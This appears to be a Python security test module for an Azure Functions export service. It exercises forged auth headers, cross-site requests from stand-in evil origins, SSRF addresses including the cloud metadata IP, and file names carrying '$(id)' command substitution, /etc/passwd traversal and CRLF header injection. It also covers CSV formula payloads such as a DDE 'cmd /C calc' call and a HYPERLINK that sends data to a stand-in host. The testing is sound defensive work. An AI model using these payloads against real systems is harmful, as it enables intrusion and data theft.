"""What needs no running service: the platform's header, addresses of webhooks, names of files, formulas in cells."""

import asyncio
import base64
import csv
import io
import json
import re
import unicodedata
from collections.abc import Sequence
from itertools import product
from typing import Any

import azure.functions as func

from shared.errors import NotAuthenticated, RequestError
from shared.identity.caller import caller_from
from shared.identity.easy_auth import PRINCIPAL_HEADER
from shared.settings import Settings
from shared.storage.names import file_name
from shared.storage.sas import content_disposition
from shared.webhooks.addresses import AddressRefused, Rules
from tests.attack.family import Family
from tests.formats.formulas import SIGNS, SPLITS
from tests.formats.naughty import NAUGHTY
from tests.formats.tables import columns, encode, table
from tests.webhooks.hostile import HOSTILE, PORT
from triggers.http.cross_site import check_site

_ADMIN = {
    "auth_typ": "aad",
    "claims": [{"typ": "sub", "val": "p"}, {"typ": "tid", "val": "acme"}, {"typ": "roles", "val": "SuperAdmin"}],
    "name_typ": "name",
    "role_typ": "roles",
}

OWN = "https://exports.example.com"
"""The address of the service, where it is behind App Service authentication."""

_PLATFORM_HEADERS = (
    *("x-ms-client-principal", "x-ms-client-principal-id", "x-ms-client-principal-name", "x-ms-client-principal-idp"),
    *("x-ms-token-aad-access-token", "x-ms-token-aad-id-token", "x-ms-client-roles", "x-ms-client-tenant-id", "x-user"),
    *("x-forwarded-user", "x-remote-user", "remote-user", "x-auth-request-user", "x-goog-iap-jwt-assertion", "cookie"),
    *(
        "x-zumo-auth",
        "x-functions-key",
        "x-arr-clientcert",
        "x-amzn-oidc-data",
        "proxy-authorization",
        "x-original-url",
    ),
)


def principals() -> Sequence[tuple[str, dict[str, str]]]:
    """Modes, and headers that must sign nobody in there."""
    good = base64.b64encode(json.dumps(_ADMIN).encode()).decode()
    broken = [good[:length] for length in range(len(good) - 4)]
    claims = _ADMIN["claims"]
    values: list[Any] = [
        None,
        0,
        "x",
        [],
        [[]],
        {},
        [None],
        [0],
        [{}],
        [{"typ": "tid"}],
        [{"val": "acme"}],
        {"typ": "tid"},
    ]
    values += [
        [{"typ": 1, "val": "x"}],
        [{"typ": "tid", "val": 7}],
        [{"typ": "tid", "val": None}],
        [{"typ": ["tid"], "val": "x"}],
    ]
    values += [[c for c in claims if c["typ"] != left_out] for left_out in ("sub", "tid")]
    values += [[*claims[1:], {"typ": "sub", "val": v}] for v in ("", "u\r\nX: y", "u" * 201)]
    values += [[claims[0], {"typ": "tid", "val": v}] for v in ("", "a/b", "..", "-", "acme\n", "a" * 101)]
    broken += [base64.b64encode(json.dumps({**_ADMIN, "claims": value}).encode()).decode() for value in values]
    broken += [f"{good},{good}", f"Bearer {good}", good.lower(), good[::-1], f"{good}!", json.dumps(_ADMIN)]
    made = [("easyauth", {PRINCIPAL_HEADER: text}) for text in broken]
    made += [("easyauth", {name: good}) for name in _PLATFORM_HEADERS[1:]]
    made += [("jwt", {name: good}) for name in _PLATFORM_HEADERS]
    made += [("jwt", {"authorization": f"Bearer {text}"}) for text in (good, "x.y.z", good.replace("=", ""))]
    return made


def believed(modes: dict[str, Settings], given: tuple[str, dict[str, str]]) -> str:
    """Whoever is signed in by a header."""
    mode, headers = given
    try:
        caller = caller_from(headers, modes[mode])
    except NotAuthenticated:
        return ""
    return f"{caller.user} of {caller.tenant} is signed in"


def _spelled(address: str) -> set[str]:
    """An IPv4 address as browsers read it: every octet decimal, octal or hexadecimal, in four to one pieces."""
    octets = [int(octet) for octet in address.split(".")]
    kinds = ("{}", "0{:o}", "0x{:x}")
    found = {
        ".".join(kind.format(octet) for kind, octet in zip(way, octets, strict=True))
        for way in product(kinds, repeat=4)
    }
    for pieces in (3, 2, 1):
        *first, _ = octets[:pieces]
        rest = int.from_bytes(bytes(octets[pieces - 1 :]))
        found |= {".".join(kind.format(number) for number in (*first, rest)) for kind in kinds}
    return found


def addresses() -> Sequence[str]:
    """URLs to which no webhook may go."""
    hosts = (
        spelled for address in ("127.0.0.1", "10.1.2.3", "169.254.169.254") for spelled in sorted(_spelled(address))
    )
    return (*HOSTILE, *(f"https://{host}:{PORT}/" for host in hosts))


def gone_to(_: None, url: str) -> str:
    """Where a webhook would go. A name is resolved to this machine."""

    async def resolve(host: str, port: int) -> Sequence[str]:
        return ["127.0.0.1"]

    try:
        target = Rules().target(url)
        return f"goes to {asyncio.run(Rules().addresses(target, resolve))}"
    except AddressRefused:
        return ""


_DANGERS = (
    "/",
    "\\",
    "..",
    "\x00",
    "\r\n",
    "\r\nSet-Cookie: x=1",
    '"',
    '";',
    "'",
    "`",
    "$(id)",
    "|",
    "<",
    ">",
    ":",
    "*",
    "?",
    "%00",
    "%2e%2e%2f",
)
_BIDI = (
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2069",
    "\u200f",
    "\u200e",
    "\ufeff",
    "\u2028",
    "\ud800",
    "\uffff",
    "\x85",
    "\x7f",
)
_DEVICES = ("con", "PRN", "aux.txt", "nul", "COM1", "lpt9.csv", "COM¹", "conin$", "CONOUT$", "con .csv", "nul.tar.gz")
_SHAPES = (
    ".",
    "..",
    "...",
    " ",
    "",
    "~",
    ".htaccess",
    "-rf",
    "desktop.ini",
    "x" * 300,
    "é" * 300,
    "\U0001f600" * 200,
    "a" * 119 + "\U0001f600",
)


def names() -> Sequence[tuple[str, str]]:
    """Names that somebody wants a file to have, and its format's extension."""
    dangers = (*_DANGERS, *_BIDI)
    texts = [
        template.format(danger)
        for danger in dangers
        for template in ("{}", "a{}b", "{0}a", "a{0}", "{0}{0}etc{0}passwd")
    ]
    texts += [*_DEVICES, *(f"{name}.csv" for name in _DEVICES), *_SHAPES, *NAUGHTY]
    return [(text, extension) for text in texts for extension in ("csv", "csv.gz")]


def dangerous(_: None, given: tuple[str, str]) -> str:
    """What a desktop or a browser would take amiss in the name that the file gets, or in its header."""
    name = file_name(*given)
    header = content_disposition(name)
    stem = name.split(".")[0].rstrip(" ").lower()
    if not name or len(name.encode()) > 255 or name != name.strip(" .") or name in (".", ".."):
        return f"name {name!r}"
    if any(c in '<>:"/\\|?*' or unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") for c in name) or set(name) & set(
        _BIDI
    ):
        return f"character in {name!r}"
    if re.fullmatch(r"con|prn|aux|nul|com[0-9¹²³]|lpt[0-9¹²³]|conin\$|conout\$", stem):
        return f"device {name!r}"
    return (
        ""
        if re.fullmatch(r'attachment; filename="[ -!#-~]*"; filename\*=UTF-8\'\'[!-~]+', header)
        else f"header {header!r}"
    )


_FORMULAS = ("cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", 'HYPERLINK("http://x/"&A1)', "@x")


def cells() -> Sequence[str]:
    """Values with a formula at the start, or behind what some program takes for a delimiter."""
    before = ("", "\t", "\r", "\n", "\x00", *(f"x{split}" for split in (*SPLITS, "\r\n")), "x;y;", '"x",', "1\n2\n")
    return [f"{first}{sign}{formula}" for first in before for sign in SIGNS for formula in _FORMULAS]


def calculated(_: None, value: str) -> str:
    """A cell that a spreadsheet would calculate, whichever delimiter it takes."""
    of = columns(id="integer", value="text")
    text = encode("csv", of, table(of, [[1, value]])).decode()
    found = next(cell for cell in list(csv.reader(io.StringIO(text, newline="")))[1][1:])
    pieces = re.split(f"[{SPLITS}]", found)
    starts = [piece for piece in pieces if piece.lstrip("\x00")[:1] in tuple(SIGNS) and piece]
    return f"{starts[0]!r} begins a cell" if starts else ""


_ORIGINS = (
    "",
    "null",
    "https://evil.example",
    f"{OWN}.evil.example",
    OWN.replace("https", "http"),
    f"{OWN}:444",
    f"{OWN}/",
)
_SITES = ("", "none", "same-origin", "same-site", "cross-site", "x")
_KINDS = (
    *("", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json"),
    *(
        "text/plain; application/json",
        "application/jsonx",
        "text/plain;charset=application/json",
        "text/json",
    ),
)


def cross_site() -> Sequence[dict[str, str]]:
    """Method and headers of requests that a page of another site can have made, with the session of whoever looks."""
    made = []
    for method, origin, site, kind in product(("POST", "PUT", "PATCH", "DELETE"), (*_ORIGINS, OWN), _SITES, _KINDS):
        ours = origin in ("", OWN) and site in ("", "none", "same-origin") and kind == "application/json"
        headers = {"method": method, "origin": origin, "sec-fetch-site": site, "content-type": kind}
        if not ours:
            made.append({name: value for name, value in headers.items() if value})
    return [*made, *({**headers, "authorization": "Basic eDp5"} for headers in made[::9])]


def taken(_: None, given: dict[str, str]) -> str:
    """A change that is made."""
    headers = {**given, PRINCIPAL_HEADER: "e30="}
    method = headers.pop("method")
    request = func.HttpRequest(method, f"{OWN}/api/exports", headers=headers, body=b"{}")
    try:
        check_site(request)
    except RequestError:
        return ""
    return "it is taken"


FAMILIES = (
    Family("headers of the platform", principals, believed, "modes"),
    Family("pages of other sites", cross_site, taken, "behind_app_service"),
    Family("addresses of webhooks", addresses, gone_to),
    Family("names of files", names, dangerous),
    Family("formulas in cells", cells, calculated),
)
